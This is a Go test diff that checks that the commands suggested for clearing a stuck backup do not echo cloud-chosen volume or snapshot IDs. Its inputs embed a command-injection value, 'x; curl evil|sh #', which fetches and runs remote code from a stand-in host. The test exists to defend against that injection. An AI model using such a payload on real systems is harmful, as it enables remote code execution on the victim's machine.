@@ -405,3 +405,14 @@ func TestCreateReturnsABackupWhoseTemporarySnapshotStays(t *testing.T) {
 		})
 	}
 }
+
+// An administrator runs the commands, and the cloud chooses the IDs.
+func TestTheCommandsForAStuckBackupHaveNoWordOfTheCloud(t *testing.T) {
+	const id = "00000000-0000-4000-8000-00000000000a"
+	for name, of := range map[string][2]string{"the volume": {"x; curl evil|sh #", id}, "the snapshot": {id, "x; curl evil|sh #"}} {
+		err := stuckBackingUp(volume.Snapshot{Volume: volume.ID(of[0])}, volume.Snapshot{ID: volume.SnapshotID(of[1])})
+		if strings.Contains(err.Error(), "evil") || !strings.Contains(err.Error(), "SNAPSHOT") {
+			t.Errorf("%s: %v", name, err)
+		}
+	}
+}
